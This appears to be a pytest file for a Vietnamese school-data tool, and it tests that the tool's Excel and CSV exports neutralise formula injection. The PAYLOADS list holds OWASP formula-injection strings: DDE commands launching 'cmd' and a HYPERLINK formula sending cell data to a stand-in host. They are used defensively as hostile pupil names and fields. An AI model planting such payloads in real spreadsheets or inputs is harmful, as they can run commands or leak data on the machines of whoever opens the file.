"""Nothing we write is executable: every writer of .xlsx and .csv, fed text that starts like a
formula, gives back the same text and no formula (issue 12, point 2)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from locson_analysis import cli, safe_cells, store, warn
from locson_analysis.errors import ImportProblems, Problem
from locson_analysis.indicators.equity import ETHNIC_GROUP_MIN
from locson_analysis.report import tables as report_tables
from tests.store_builders import pupil, year_data

#: OWASP's starts, as a hostile or careless file would carry them.
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?"&B5,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
Y0, Y1 = "2023-2024", "2024-2025"


def _same(text: str) -> str:
    return text.replace("\r", "\n")  # (XML stores a lone CR as a line break)


def _xlsx_texts(path: Path) -> list[str]:
    """Every text cell of every sheet; fails on any formula."""
    wb = openpyxl.load_workbook(path)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    if safe_cells.is_risky(cell.value):
                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate} without prefix"
                    texts.append(cell.value)
    return texts


def _csv_fields(path: Path) -> list[str]:
    """Every field of a CSV; fails on a field a spreadsheet would read as a formula."""
    fields = [f for r in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")))
              for f in r]
    for f in fields:
        assert not f.startswith(safe_cells.FORMULA_STARTS) or not safe_cells.is_risky(f), f
    return fields


def test_the_helper_keeps_numbers_and_round_trips_text() -> None:
    for p in [*PAYLOADS, "'=x", "''+y"]:
        assert safe_cells.restore_text(safe_cells.neutralise(p)) == p
        assert not safe_cells.neutralise(p).startswith(safe_cells.FORMULA_STARTS)
    for plain in ["-3", "+1,5", "97,5 %", "Kinh", "K'Ho", "'ok", "—", ""]:
        assert safe_cells.neutralise(plain) == plain
    df = pd.DataFrame({"t": PAYLOADS, "n": range(len(PAYLOADS))})
    out = safe_cells.safe_frame(df)
    assert out["n"].tolist() == list(range(len(PAYLOADS)))
    pd.testing.assert_frame_equal(safe_cells.restore_frame(out), df)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two years; every payload is the ethnicity and class of enough pupils in the year in progress
    (a group large enough to be shown) and the name of one of them, who is at risk (many
    absences, learning «Chưa đạt»)."""
    db = tmp_path_factory.mktemp("hostile") / "t.duckdb"
    before, now = [], []
    for i, p in enumerate(PAYLOADS):
        for k in range(ETHNIC_GROUP_MIN):
            before.append(pupil(f"A{i}_{k}", 6))
            risk = {"full_name": p, "absences_s1": 40, "learning_s1": "Chưa đạt"} if k == 0 \
                else {"absences_s1": 0, "learning_s1": "Khá"}
            now.append(pupil(f"A{i}_{k}", 7, "in_progress", ethnicity=p, class_name=p,
                             conduct_s1="Tốt", **risk))
    store.write_year(db, year_data(Y0, before, school={"toilets": 4}))
    store.write_year(db, year_data(Y1, now, school={"toilets": 4}))
    return db


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_indicators_out(hostile_db: Path, tmp_path: Path, suffix: str,
                        capsys: pytest.CaptureFixture) -> None:
    out = tmp_path / f"chi_so{suffix}"
    assert cli.main(["indicators", "--db", str(hostile_db), "--year", Y1, "--out",
                     str(out)]) == 0
    if suffix == ".xlsx":
        texts = set(_xlsx_texts(out))
    else:
        texts = {safe_cells.restore_text(f) for f in _csv_fields(out)}
    for p in PAYLOADS[:-1]:  # (the ethnicity groups; a CR splits a CSV line, checked above)
        assert _same(p) in texts or p in texts, p


def test_indicators_to_the_console(hostile_db: Path, capsys: pytest.CaptureFixture) -> None:
    assert cli.main(["indicators", "--db", str(hostile_db), "--year", Y1]) == 0
    out = capsys.readouterr().out
    fields = [f for r in csv.reader(io.StringIO(out)) for f in r]
    assert "'" + PAYLOADS[0] in fields
    assert not [f for f in fields if safe_cells.is_risky(f)]


def test_report_workbook(hostile_db: Path, tmp_path: Path) -> None:
    ds = store.load(hostile_db)
    report = report_tables.build_report(ds, Y1, mid_year=True)
    path = report_tables.write_workbook(report, tmp_path / "bao_cao.xlsx")
    texts = _xlsx_texts(path)
    assert any(safe_cells.is_risky(t) for t in texts)  # the payloads did reach the workbook


def test_warn_list_and_snapshot(hostile_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "internal"
    run = warn.prepare(hostile_db, Y1, "mid", 10, out, official=True)  # (only locson warn writes)
    assert set(run.listed["full_name"]) == set(PAYLOADS)
    year_dir = out / Y1
    (xlsx,) = year_dir.glob("*.xlsx")
    texts = {_same(t) for t in _xlsx_texts(xlsx)}
    assert {_same(p) for p in PAYLOADS} <= texts
    _csv_fields(year_dir / warn.SNAPSHOT_NAME)
    # read back by the next run exactly as written
    previous = warn.read_previous(out, Y1)
    assert sorted(previous["full_name"].map(_same)) == sorted(_same(p) for p in PAYLOADS)
    again = warn.prepare(hostile_db, Y1, "mid", 10, out, official=True)
    assert again.changes.empty  # same pupils: nothing new, nothing gone


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".txt"])
def test_all_errors_file_has_every_problem_and_no_formula(tmp_path: Path, suffix: str,
                                                         capsys: pytest.CaptureFixture) -> None:
    problems = [Problem("ds.xlsx", "cần một ngày", "DSHS", 7 + i, "Ngày sinh", PAYLOADS[i % 7])
                for i in range(250)]
    path = tmp_path / f"loi{suffix}"
    cli._write_all_errors(ImportProblems(problems), path)
    if suffix == ".xlsx":
        texts = _xlsx_texts(path)
        assert sum(t == "cần một ngày" for t in texts) == 250
    elif suffix == ".csv":
        fields = _csv_fields(path)
        assert sum(f == "cần một ngày" for f in fields) == 250
    else:
        text = path.read_text(encoding="utf-8")
        assert "phát hiện 250 lỗi" in text and "  250. tệp ds.xlsx" in text
